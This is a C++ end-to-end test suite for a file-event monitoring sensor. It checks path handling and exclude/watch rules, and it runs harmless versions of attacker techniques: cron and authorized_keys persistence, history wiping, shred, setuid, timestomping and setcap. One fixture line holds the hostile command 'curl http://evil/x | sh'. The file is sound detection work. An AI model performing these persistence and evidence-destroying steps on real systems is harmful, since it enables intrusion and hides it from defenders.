// File events' paths ("..", the longest, names that are not text, a file
// deleted while open), what attackers' tools do, and the rules (excluded,
// watched directories made after the start) (file_fixture.h).
#include "file_fixture.h"

namespace nj::e2e::file_e2e {
namespace {

// ---------------------------------------------------------------------------
// Paths.

// ".." and "." through the cwd and through a dirfd: folded in file.path,
// kept as passed beside it.
TEST_P(FileEvents, DotDotComponentsAreResolved) {
  ACT(a, "file-dotdot", dir_);
  FIND(c, "chmod", a["pid"], a["chmod_path"], "fchmodat");
  expect_common(c, a["pid"]);
  expect_path(c, a["chmod_path"], dir_, "dotdot.txt", "txt");
  EXPECT_EQ(get(c, "nightjar.file.path_as_passed"), a["chmod_as_passed"]);
  FIND(d, "delete", a["pid"], a["unlink_path"], "unlinkat");
  expect_common(d, a["pid"]);
  expect_path(d, a["unlink_path"], dir_ + "/b", "gone.txt", "txt");
  EXPECT_EQ(get(d, "nightjar.file.path_as_passed"), a["unlink_as_passed"]);
}

// A path of 4095 bytes (PATH_MAX less its NUL), the longest a syscall
// takes: whole when passed whole, and whole when walked by the kernel (its
// walk holds PATH_MAX bytes), also below a directory fd.
TEST_P(FileEvents, LongestPath) {
  ACT(a, "file-long-path", dir_);
  const std::string path = a["path"], leaf = a["leaf"];
  ASSERT_EQ(path.size(), 4095u);
  const std::string parent = path.substr(0, path.size() - leaf.size() - 1);

  FIND(whole, "chmod", a["pid"], path, "fchmodat");
  expect_common(whole, a["pid"]);
  EXPECT_EQ(get(whole, "file.directory"), parent);
  EXPECT_EQ(get(whole, "file.name"), leaf);
  EXPECT_EQ(get(whole, "file.extension"), "txt");
  EXPECT_EQ(get(whole, "nightjar.file.new_mode"), "0600");

  FIND(created, "create", a["pid"], path);
  expect_identity(created, a, "obj");
  EXPECT_EQ(get(created, "nightjar.file.open_flags"), json::array({"O_WRONLY", "O_CREAT", "O_EXCL"}));
  EXPECT_FALSE(has(created, "nightjar.file.path_truncated"));

  WAIT(
      rel,
      [&](const json& e) {
        return is_file_event(e, "chmod", a["pid"]) && e["nightjar"]["file"].value("new_mode", "") == "0640";
      },
      "chmod of the leaf relative to its directory");
  EXPECT_EQ(get(rel, "file.path"), path);
  EXPECT_FALSE(has(rel, "nightjar.file.path_truncated"));
  EXPECT_EQ(get(rel, "nightjar.file.path_as_passed"), leaf);
}

// Deeper than the kernel's walk goes (64 components): the path is the tail
// that was walked behind ".../", which no absolute path starts with, and
// says it was cut; the file is still named and identified.
TEST_P(FileEvents, DeeperThanTheWalkIsAMarkedTail) {
  ACT(a, "file-deep-path", dir_);
  const std::string path = a["path"], leaf = a["leaf"];
  WAIT(
      created,
      [&](const json& e) { return is_file_event(e, "create", a["pid"]) && e["file"].value("name", "") == leaf; },
      "create of the deep path");
  expect_identity(created, a, "obj");
  const std::string cpath = get(created, "file.path");
  EXPECT_EQ(get(created, "nightjar.file.path_truncated"), true);
  ASSERT_EQ(cpath.rfind(".../", 0), 0u) << cpath;
  const std::string tail = cpath.substr(3);
  EXPECT_LT(tail.size(), path.size());
  EXPECT_EQ(path.substr(path.size() - tail.size()), tail) << "the walk's deepest part";
}

// A newline, a quote, a backslash and bytes that are not UTF-8 in names:
// valid JSON lines, the invalid bytes escaped as \xNN (backslashes doubled
// so that it reads back), and the escaped fields named.
TEST_P(FileEvents, NamesThatAreNotPlainText) {
  ACT(a, "file-weird-names", dir_);
  const std::string n1 = "new\nline \"q\" \\xff.txt", n2 = "tab\tand\\\\back\\xfe";
  FIND(c, "create", a["pid"], dir_ + "/" + n1, "openat");
  expect_common(c, a["pid"]);
  expect_path(c, dir_ + "/" + n1, dir_, n1, "txt");
  expect_identity(c, a, "obj");
  EXPECT_EQ(get(c, "nightjar.escaped_fields"), json::array({"file.path", "file.name"}));

  FIND(r, "rename", a["pid"], dir_ + "/" + n2, "renameat");
  expect_common(r, a["pid"]);
  EXPECT_EQ(get(r, "file.name"), n2);
  EXPECT_EQ(get(r, "nightjar.file.original.path"), dir_ + "/" + n1);
  EXPECT_EQ(get(r, "nightjar.file.original.path_as_passed"), n1);
  EXPECT_EQ(get(r, "nightjar.file.path_as_passed"), n2);
  const json esc = get(r, "nightjar.escaped_fields");
  for (const char* f : {"file.path", "file.name", "nightjar.file.path_as_passed", "nightjar.file.original.path"})
    EXPECT_NE(std::find(esc.begin(), esc.end(), json(f)), esc.end()) << f << " in " << esc.dump();

  FIND(d, "delete", a["pid"], dir_ + "/" + n2, "unlinkat");
  EXPECT_EQ(get(d, "nightjar.file.path_as_passed"), n2);
  // No raw newline or invalid byte made it into a line (read line by line:
  // the file may be large).
  std::ifstream in(sensor().output_path(), std::ios::binary);
  const std::string mark = "\"pid\":" + std::to_string(a["pid"].get<long>()) + ",";
  for (std::string l; std::getline(in, l);)
    if (l.find(mark) != std::string::npos && l.find(dir_) != std::string::npos) {
      EXPECT_EQ(l.find('\xff'), std::string::npos);
      EXPECT_EQ(l.find('\xfe'), std::string::npos);
    }
}

// A file deleted while open stays the object of what is done through its
// fd: its path is the name it had, its identity the same.
TEST_P(FileEvents, FileDeletedWhileOpen) {
  ACT(a, "file-deleted-open", dir_);
  FIND(d, "delete", a["pid"], a["path"], "unlinkat");
  FIND(c, "chmod", a["pid"], a["path"], "fchmod");
  expect_common(c, a["pid"]);
  expect_identity(c, a, "obj");
  EXPECT_EQ(get(c, "nightjar.file.new_mode"), "0700");
  EXPECT_EQ(get(c, "nightjar.file.unlinked"), true) << c.dump();
  FIND(t, "modify", a["pid"], a["path"], "ftruncate");
  expect_identity(t, a, "obj");
  EXPECT_EQ(get(t, "nightjar.file.length"), 1);
  EXPECT_EQ(get(t, "nightjar.file.unlinked"), true) << t.dump();
  EXPECT_FALSE(has(d, "nightjar.file.unlinked")) << d.dump();
}

// ---------------------------------------------------------------------------
// What attackers' tools do, run as a user runs them.

// A script written to /tmp, made executable and run.
TEST_P(FileEvents, AttackScriptDroppedMadeExecutableAndRun) {
  const std::string script = dir_ + "/update.sh";
  ToolRun sh = run_tool({"/bin/sh", "-c", "umask 022; printf '#!/bin/sh\\nexit 0\\n' > " + script});
  ASSERT_EQ(sh.status, 0);
  ToolRun chmod = run_tool({"chmod", "+x", script});
  ASSERT_EQ(chmod.status, 0);
  ToolRun run = run_tool({script});
  ASSERT_EQ(run.status, 0);

  FIND(c, "create", sh.pid, script);
  expect_common(c, sh.pid);
  EXPECT_EQ(get(c, "process.name"), "sh");
  EXPECT_EQ(get(c, "file.mode"), "0644");
  EXPECT_EQ(get(c, "file.extension"), "sh");
  FIND(m, "chmod", chmod.pid, script);
  expect_common(m, chmod.pid);
  EXPECT_EQ(get(m, "process.name"), "chmod");
  EXPECT_EQ(get(m, "nightjar.file.new_mode"), "0755");
  EXPECT_EQ(get(m, "nightjar.file.mode_bits"), json::array());
  WAIT(
      x, [&](const json& e) { return is_exec(e, run.pid); }, "exec of pid " + std::to_string(run.pid));
  EXPECT_EQ(get(x, "nightjar.filename"), script);
}

// A binary copied (cp /usr/bin/true), renamed to look like a kernel
// worker and run: the exec runs the very file the copy created.
TEST_P(FileEvents, AttackCopiedBinaryRenamedLikeADaemonAndRun) {
  const std::string copy = dir_ + "/true-copy", daemon = dir_ + "/kworkerd";
  // Where true is busybox (the kernel matrix's guests), a copy named
  // kworkerd would not know what to run: copy a program of its own.
  std::string bin = "/usr/bin/true";
  std::vector<std::string> args{daemon};
  if (fs::canonical(bin).filename().string().find("busybox") != std::string::npos) {
    bin = NJ_ACTIONS;
    args.push_back("list");
  }
  ToolRun cp = run_tool({"cp", bin, copy});
  ASSERT_EQ(cp.status, 0);
  ToolRun mv = run_tool({"mv", copy, daemon});
  ASSERT_EQ(mv.status, 0);
  ToolRun run = run_tool(args);
  ASSERT_EQ(run.status, 0);

  FIND(c, "create", cp.pid, copy);
  expect_common(c, cp.pid);
  EXPECT_EQ(get(c, "process.name"), "cp");
  EXPECT_EQ(get(c, "file.type"), "file");
  FIND(r, "rename", mv.pid, daemon);
  expect_common(r, mv.pid);
  EXPECT_EQ(get(r, "nightjar.file.original.path"), copy);
  WAIT(
      x, [&](const json& e) { return is_exec(e, run.pid); }, "exec of pid " + std::to_string(run.pid));
  EXPECT_EQ(get(x, "process.executable"), daemon);
  EXPECT_EQ(get(x, "process.name"), "kworkerd");
  EXPECT_EQ(std::to_string(get(x, "nightjar.exe.inode").get<uint64_t>()), get(c, "file.inode"));
}

// A cron job dropped the careful way: written to a temp file, renamed into
// the watched directory (tagged persistence by the suite's rules).
TEST_P(FileEvents, AttackCronFileDroppedThroughATempFileAndRename) {
  const std::string tmp = dir_ + "/.cron-tmp", job = base().dir + "/cron.d/nj-job-" + GetParam();
  ToolRun sh = run_tool({"/bin/sh", "-c", "printf '* * * * * root /tmp/x\\n' > " + tmp});
  ASSERT_EQ(sh.status, 0);
  ToolRun mv = run_tool({"mv", tmp, job});
  ASSERT_EQ(mv.status, 0);

  FIND(c, "create", sh.pid, tmp);
  EXPECT_FALSE(has(c, "nightjar.file.tags")) << "the temp file is nowhere watched";
  FIND(r, "rename", mv.pid, job);
  expect_common(r, mv.pid);
  EXPECT_EQ(get(r, "nightjar.file.original.path"), tmp);
  EXPECT_EQ(get(r, "nightjar.file.tags"), json::array({"persistence"}));
  fs::remove(job);
}

// A key appended to an authorized_keys file, then the file read back.
TEST_P(FileEvents, AttackAppendToAuthorizedKeys) {
  const std::string keys = base().dir + "/ssh/authorized_keys-" + GetParam();
  { std::ofstream(keys) << "ssh-ed25519 AAAAold user@host\n"; }
  ToolRun sh = run_tool({"/bin/sh", "-c", "echo 'ssh-ed25519 AAAAnj attacker' >> " + keys});
  ASSERT_EQ(sh.status, 0);
  ToolRun cat = run_tool({"cat", keys});
  ASSERT_EQ(cat.status, 0);

  FIND(m, "modify", sh.pid, keys);
  expect_common(m, sh.pid);
  EXPECT_EQ(get(m, "nightjar.file.tags"), json::array({"ssh"}));
  const json flags = get(m, "nightjar.file.open_flags");
  EXPECT_NE(std::find(flags.begin(), flags.end(), json("O_APPEND")), flags.end()) << flags.dump();
  FIND(r, "read", cat.pid, keys);
  expect_common(r, cat.pid);
  EXPECT_EQ(get(r, "nightjar.file.tags"), json::array({"ssh"}));

  // Moved out of the watched directory: tagged by where it was.
  const std::string out = dir_ + "/keys";
  ToolRun mv = run_tool({"mv", keys, out});
  ASSERT_EQ(mv.status, 0);
  FIND(o, "rename", mv.pid, out);
  EXPECT_EQ(get(o, "nightjar.file.original.path"), keys);
  EXPECT_EQ(get(o, "nightjar.file.tags"), json::array({"ssh"}));
}

// A shell history emptied and deleted.
TEST_P(FileEvents, AttackHistoryTruncatedAndDeleted) {
  const std::string hist = base().dir + "/hist/.bash_history-" + GetParam();
  { std::ofstream(hist) << "curl http://evil/x | sh\n"; }
  ToolRun sh = run_tool({"/bin/sh", "-c", ": > " + hist});
  ASSERT_EQ(sh.status, 0);
  ToolRun rm = run_tool({"rm", hist});
  ASSERT_EQ(rm.status, 0);

  FIND(m, "modify", sh.pid, hist);
  expect_common(m, sh.pid);
  EXPECT_EQ(get(m, "nightjar.file.tags"), json::array({"history"}));
  const json flags = get(m, "nightjar.file.open_flags");
  EXPECT_NE(std::find(flags.begin(), flags.end(), json("O_TRUNC")), flags.end()) << flags.dump();
  FIND(d, "delete", rm.pid, hist);
  expect_common(d, rm.pid);
  EXPECT_EQ(get(d, "nightjar.file.tags"), json::array({"history"}));
  EXPECT_EQ(get(d, "file.name"), ".bash_history-" + GetParam());
  EXPECT_FALSE(has(d, "file.extension")) << "a leading dot starts no extension";
}

// shred -u: overwritten in place, then (GNU) renamed to shorter and
// shorter names of zeros, then deleted.
TEST_P(FileEvents, AttackShredU) {
  if (!have_program("shred")) GTEST_SKIP() << "no shred here";
  const std::string victim = dir_ + "/secret.txt";
  { std::ofstream(victim) << std::string(4096, 's'); }
  ToolRun shred = run_tool({"shred", "-u", victim});
  ASSERT_EQ(shred.status, 0);

  FIND(m, "modify", shred.pid, victim);
  expect_common(m, shred.pid);
  EXPECT_EQ(get(m, "process.name"), "shred");
  WAIT(
      d,
      [&](const json& e) { return is_file_event(e, "delete", shred.pid) && e["file"].value("directory", "") == dir_; },
      "delete by shred in " + dir_);
  expect_common(d, shred.pid);
  auto renames = sensor().all([&](const json& e) { return is_file_event(e, "rename", shred.pid); }, 0);
  if (!renames.empty()) {
    EXPECT_EQ(get(renames.front(), "nightjar.file.original.path"), victim);
    EXPECT_EQ(get(renames.back(), "file.path"), get(d, "file.path")) << "the last name is the one deleted";
  }
}

TEST_P(FileEvents, AttackChmodUPlusS) {
  const std::string bin = dir_ + "/backdoor";
  fs::copy_file("/usr/bin/true", bin);
  fs::permissions(bin, fs::perms(0755));
  ToolRun chmod = run_tool({"chmod", "u+s", bin});
  ASSERT_EQ(chmod.status, 0);
  FIND(e, "chmod", chmod.pid, bin);
  expect_common(e, chmod.pid);
  EXPECT_EQ(get(e, "nightjar.file.new_mode"), "4755");
  EXPECT_EQ(get(e, "nightjar.file.mode_bits"), json::array({"setuid"}));
}

// Timestomping.
TEST_P(FileEvents, AttackTouchBackdates) {
  const std::string f = dir_ + "/implant.so";
  { std::ofstream(f) << "x"; }
  ToolRun touch = run_tool({"touch", "-d", "2001-01-01 00:00:00", f}, {"TZ=UTC"});
  ASSERT_EQ(touch.status, 0);
  FIND(e, "times", touch.pid, f);
  expect_common(e, touch.pid);
  EXPECT_EQ(get(e, "process.name"), "touch");
  EXPECT_EQ(get(e, "nightjar.file.atime"), "2001-01-01T00:00:00.000000000Z");
  EXPECT_EQ(get(e, "nightjar.file.mtime"), "2001-01-01T00:00:00.000000000Z");
  EXPECT_EQ(get(e, "file.extension"), "so");
}

// File capabilities given to a copy of an interpreter: setcap where libcap's
// tools are, else the same attribute (a v2 blob: cap_net_raw permitted and
// effective) set from Python.
TEST_P(FileEvents, AttackSetcapOnACopyOfPython) {
  if (access("/usr/bin/python3", X_OK) != 0) GTEST_SKIP() << "no python3 here";
  const std::string py = dir_ + "/python3-cap";
  fs::copy_file(fs::canonical("/usr/bin/python3"), py);
  ToolRun set;
  if (have_program("setcap")) {
    set = run_tool({"setcap", "cap_net_raw+ep", py});
  } else {
    set = run_tool({"/usr/bin/python3", "-c",
                    "import os, struct, sys; os.setxattr(sys.argv[1], 'security.capability', "
                    "struct.pack('<5I', 0x02000001, 1 << 13, 0, 0, 0))",
                    py});
  }
  ASSERT_EQ(set.status, 0);
  FIND(e, "xattr", set.pid, py);
  expect_common(e, set.pid);
  EXPECT_EQ(get(e, "nightjar.file.xattr.name"), "security.capability");
  EXPECT_EQ(get(e, "nightjar.file.xattr.operation"), "set");
  EXPECT_EQ(get(e, "nightjar.file.xattr.file_capabilities"), true);
  const json size = get(e, "nightjar.file.xattr.size");
  EXPECT_TRUE(size == 20 || size == 24) << size << ": a v2 or v3 capability blob";
}

// ---------------------------------------------------------------------------
// Rules.

// Nothing below an `exclude` rule's directory is reported, whether the
// kernel drops it (opens) or the tracker does (calls that name a path); a
// file moved out of it is seen.
TEST_P(FileEvents, ExcludedPathsAreNotReported) {
  const std::string ex = base().dir + "/excluded/" + GetParam(), out = dir_ + "/escaped";
  const std::string script = "mkdir " + ex + " && echo x > " + ex + "/f && chmod 600 " + ex + "/f && mv " + ex + "/f " +
                             ex + "/g && touch -d 2001-01-01 " + ex + "/g && mv " + ex + "/g " + out + " && rm -r " +
                             ex + " && echo y > " + dir_ + "/anchor";
  ToolRun sh = run_tool({"/bin/sh", "-c", script});
  ASSERT_EQ(sh.status, 0);
  FIND(anchor, "create", sh.pid, dir_ + "/anchor");
  WAIT(
      r,
      [&](const json& e) {
        return e.contains("file") && e["event"]["action"] == "rename" && e["file"].value("path", "") == out;
      },
      "the move out of the excluded directory");
  EXPECT_EQ(get(r, "nightjar.file.original.path"), ex + "/g");
  auto inside = sensor().all(
      [&](const json& e) {
        return e.contains("file") && e["event"]["category"] == json::array({"file"}) &&
               e["file"].value("path", "").rfind(ex, 0) == 0;
      },
      300);
  EXPECT_TRUE(inside.empty()) << inside.size() << " events below " << ex << ", first: " << inside[0].dump();
}

// A directory a read rule names that did not exist at start is watched
// from its creation on: the tracker tells the kernel its identity.
TEST_P(FileEvents, WatchedDirectoryCreatedAfterStart) {
  const std::string late = base().dir + "/late-" + GetParam(), f = late + "/token";
  ASSERT_FALSE(fs::exists(late));
  ToolRun mk = run_tool({"mkdir", late});
  ASSERT_EQ(mk.status, 0);
  FIND(c, "create", mk.pid, late);
  EXPECT_EQ(get(c, "nightjar.file.tags"), json::array({"nj-late"}));
  { std::ofstream(f) << "t"; }
  ToolRun cat = run_tool({"cat", f});
  ASSERT_EQ(cat.status, 0);
  FIND(r, "read", cat.pid, f);
  expect_common(r, cat.pid);
  EXPECT_EQ(get(r, "nightjar.file.tags"), json::array({"nj-late"}));
  fs::remove_all(late);
}

}  // namespace
}  // namespace nj::e2e::file_e2e
